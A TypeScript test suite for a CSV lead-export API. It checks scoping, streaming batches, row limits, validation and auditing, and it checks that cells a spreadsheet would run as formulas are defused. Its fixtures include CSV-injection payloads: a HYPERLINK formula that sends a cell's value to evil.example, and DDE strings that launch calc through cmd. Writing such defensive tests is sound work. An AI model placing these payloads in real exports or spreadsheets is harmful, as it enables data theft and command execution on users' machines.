/**
 * `GET /api/v1/leads/v2/export.csv` (plugins/messaging/README.md, "Staff API", "CSV export"): the v2 filters
 * in the caller's scope, RFC 4180 text that parses back to the stored values, cells a spreadsheet would run
 * as formulas defused, several keyset batches streamed in one response, and an export over
 * MESSAGING_EXPORT_MAX_ROWS refused before anything is sent.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../../gateway/src/plugin-api.ts';
import { exportLeads } from '../src/service/lead-export.ts';
import type { TestDatabase } from '../../../test/support/database.ts';
import { eventually } from '../../../test/support/eventually.ts';
import type { TestGateway } from '../../../test/support/gateway.ts';
import { seedLead, seedManyLeads } from '../../../test/support/leads.ts';
import { messagingRows } from '../../../test/support/realtime.ts';
import { ADMIN, agent, staffClient, staffFetch, type StaffClient } from '../../../test/support/staff-api.ts';
import { startStaffApiHarness, type StaffApiHarness } from '../../../test/support/staff-api-harness.ts';

const MAX_ROWS = 2_500;
const HEADER = [
  'id',
  'conversationId',
  'clusterId',
  'source',
  'name',
  'email',
  'phone',
  'status',
  'computedStatus',
  'statusOverride',
  'notes',
  'createdAt',
  'updatedAt',
  'capturedAt',
];

let db: TestDatabase;
let gateway: TestGateway;
let stop: StaffApiHarness['stop'] | undefined;
let admin: StaffClient;
let agentA: StaffClient;
let clusterA: string;
let bulkA: string[];
const special: Record<string, string> = {};

/** Values a spreadsheet would run as a formula, and one it would not. */
const HOSTILE = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  plus: '+1+cmd|calc',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  tab: '\tindented',
  carriageReturn: '\rreturn',
  quoted: 'He said "hi", then\r\nleft, twice',
  plain: 'nothing to defuse; 1+1=2',
};

beforeAll(async () => {
  ({ db, gateway, admin, stop } = await startStaffApiHarness({
    env: { MESSAGING_EXPORT_MAX_ROWS: String(MAX_ROWS) },
  }));
  clusterA = await messagingRows.cluster(db.pool, ['agent-a']);
  const clusterB = await messagingRows.cluster(db.pool, ['agent-b']);
  agentA = staffClient(gateway, agent('agent-a'));
  const newest = new Date('2026-06-01T00:00:00Z');
  bulkA = await seedManyLeads(db.pool, {
    clusterId: clusterA,
    count: 2_400,
    prefix: 'Bulk',
    newest,
    stepMs: 1_000,
  });
  await seedManyLeads(db.pool, { clusterId: clusterB, count: 200, prefix: 'Other', newest, stepMs: 1_000 });
  for (const [key, notes] of Object.entries(HOSTILE)) {
    special[key] = await seedLead(db.pool, {
      clusterId: clusterA,
      name: key === 'equals' ? '=cmd|" /C calc"!A0' : `Special ${key}`,
      email: `${key.toLowerCase()}@example.com`,
      phone: key === 'plain' ? '6281200000009' : null,
      notes,
      createdAt: new Date('2026-07-01T00:00:00Z'),
    });
  }
}, 120_000);
afterAll(() => stop?.());

/** RFC 4180, strictly: the test's own reader, so the export is checked against the format, not itself. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (char === '\r' || char === '\n' || char === '"')
      throw new Error(`bare ${JSON.stringify(char)} at ${i}`);
    else cell += char;
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the CSV does not end with a line end');
  return rows;
}

async function exportCsv(client: StaffClient, query = ''): Promise<{ res: Response; rows: string[][] }> {
  const res = await client.get(`/api/v1/leads/v2/export.csv${query}`);
  const text = await res.text();
  expect(res.status, text.slice(0, 500)).toBe(200);
  return { res, rows: parseCsv(text) };
}

/** The rows as objects keyed by the header. */
function records(rows: string[][]): Array<Record<string, string>> {
  const [header, ...data] = rows;
  expect(header).toEqual(HEADER);
  return data.map((cells) => Object.fromEntries(HEADER.map((name, i) => [name, cells[i] ?? ''])));
}

describe('GET /api/v1/leads/v2/export.csv', () => {
  it("streams every lead of the agent's scope, over several batches, as an attachment", async () => {
    const { res, rows } = await exportCsv(agentA);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="leads-\d{8}T\d{6}Z\.csv"$/,
    );
    const exported = records(rows);
    expect(exported).toHaveLength(2_400 + Object.keys(HOSTILE).length);
    expect(new Set(exported.map((r) => r.id)).size).toBe(exported.length);
    expect(exported.every((r) => r.clusterId === clusterA)).toBe(true);
    expect(exported.some((r) => r.name?.startsWith('Other'))).toBe(false);
    // Newest first, by default: the special leads, then the bulk from the newest.
    expect(exported.slice(Object.keys(HOSTILE).length).map((r) => r.id)).toEqual(bulkA);
  });

  it('writes values that parse back as stored, and defuses cells a spreadsheet would run', async () => {
    const { rows } = await exportCsv(agentA, '?q=special');
    const byId = new Map(records(rows).map((r) => [r.id, r]));
    expect(byId.size).toBe(Object.keys(HOSTILE).length - 1); // the `equals` lead's name is not "Special …"
    const { rows: all } = await exportCsv(agentA, '?createdFrom=2026-06-30T00:00:00Z');
    const exported = new Map(records(all).map((r) => [r.id, r]));
    for (const [key, notes] of Object.entries(HOSTILE)) {
      const lead = exported.get(special[key] ?? '');
      const defused = /^[=+\-@\t\r]/.test(notes) ? `'${notes}` : notes;
      expect(lead?.notes, key).toBe(defused);
    }
    expect(exported.get(special.equals as string)).toMatchObject({
      name: `'=cmd|" /C calc"!A0`,
      email: 'equals@example.com',
      source: 'whatsapp',
      status: 'captured',
      statusOverride: '',
      capturedAt: '',
    });
    expect(exported.get(special.plain as string)).toMatchObject({
      phone: '6281200000009',
      status: 'qualified',
    });
  });

  it('applies the v2 filters and sort', async () => {
    const { rows } = await exportCsv(agentA, '?status=qualified');
    expect(records(rows).map((r) => r.id)).toEqual([special.plain]);
    const { rows: oldest } = await exportCsv(
      agentA,
      '?sort=createdAt&source=manual&createdTo=2026-05-31T23:40:00Z',
    );
    const ids = records(oldest).map((r) => r.id);
    expect(ids).toEqual([...bulkA].reverse().slice(0, ids.length));
    expect(ids).toHaveLength(1_200);
  });

  it('refuses an export over MESSAGING_EXPORT_MAX_ROWS before sending anything', async () => {
    const res = await admin.get('/api/v1/leads/v2/export.csv');
    expect(res.status).toBe(422);
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(((await res.json()) as { code: string }).code).toBe('messaging.export.too_large');
    // HEAD asks the same question without the rows.
    const head = await staffFetch(gateway, ADMIN, 'HEAD', '/api/v1/leads/v2/export.csv');
    expect(head.status).toBe(422);
    const accepted = await staffFetch(
      gateway,
      ADMIN,
      'HEAD',
      `/api/v1/leads/v2/export.csv?cluster=${clusterA}`,
    );
    expect(accepted.status).toBe(200);
    expect(accepted.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(await accepted.text()).toBe('');
    // Narrowed, the same admin's export is accepted.
    const { rows } = await exportCsv(admin, `?cluster=${clusterA}`);
    expect(rows).toHaveLength(1 + 2_400 + Object.keys(HOSTILE).length);
  });

  it('is 404 for a cluster outside the scope', async () => {
    const { rows } = await db.pool.query<{ id: string }>(
      "SELECT cluster_id AS id FROM messaging_cluster_members WHERE user_id = 'agent-b'",
    );
    const res = await agentA.get(`/api/v1/leads/v2/export.csv?cluster=${rows[0]?.id}`);
    expect(res.status).toBe(404);
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(((await res.json()) as { code: string }).code).toBe('messaging.cluster.not_found');
  });

  it('refuses bad input with a problem, and parameters that only the list has', async () => {
    for (const query of [
      '?limit=10',
      '?cursor=abc',
      '?status=won',
      '?createdFrom=2026-01-01',
      '?hasPhone=1',
      '?x=1',
    ]) {
      const res = await agentA.get(`/api/v1/leads/v2/export.csv${query}`);
      expect(res.status, query).toBe(400);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(((await res.json()) as { code: string }).code).toBe('validation.failed');
    }
  });

  it('is audited as a sensitive read', async () => {
    const { res } = await exportCsv(agentA, '?status=qualified');
    const requestId = res.headers.get('x-request-id');
    await eventually('the audit row of the export', 20_000, async () => {
      const { rows } = await db.pool.query(
        "SELECT 1 FROM audit_log WHERE kind = 'api.access.sensitive' AND request_id = $1 AND actor = 'agent-a'",
        [requestId],
      );
      return rows.length === 1 ? true : undefined;
    });
  });
});

describe('the export service', () => {
  const scopeA = () => ({ userId: 'agent-a', admin: false, clusters: [clusterA] });
  const deps = () => ({ db: db.pool as unknown as Database, maxRows: MAX_ROWS });

  it('asks for the next batch only once the client took the previous one', async () => {
    const writes: string[] = [];
    let pending = 0;
    let release: (() => void) | undefined;
    const done = exportLeads(deps(), scopeA(), { sort: '-createdAt', source: 'manual' }, () => ({
      write(text) {
        expect(pending, 'a write while the previous one was not taken').toBe(0);
        writes.push(text);
        pending++;
        return new Promise((resolve) => {
          release = () => {
            pending--;
            resolve(true);
          };
        });
      },
    }));
    // Each write waits for the client: one at a time, header first, then batches of 1,000 rows.
    for (const rows of [0, 1_000, 1_000, 400]) {
      await eventually(`write #${writes.length + 1}`, 20_000, () =>
        Promise.resolve(pending === 1 ? true : undefined),
      );
      expect(writes.at(-1)?.split('\r\n').length).toBe(rows === 0 ? 2 : rows + 1);
      release?.();
    }
    await done;
    expect(writes).toHaveLength(4);
  });

  it('stops when the client is gone', async () => {
    const writes: string[] = [];
    await exportLeads(deps(), scopeA(), { sort: 'createdAt' }, () => ({
      write: (text) => {
        writes.push(text);
        return Promise.resolve(writes.length < 2);
      },
    }));
    expect(writes).toHaveLength(2);
  });
});
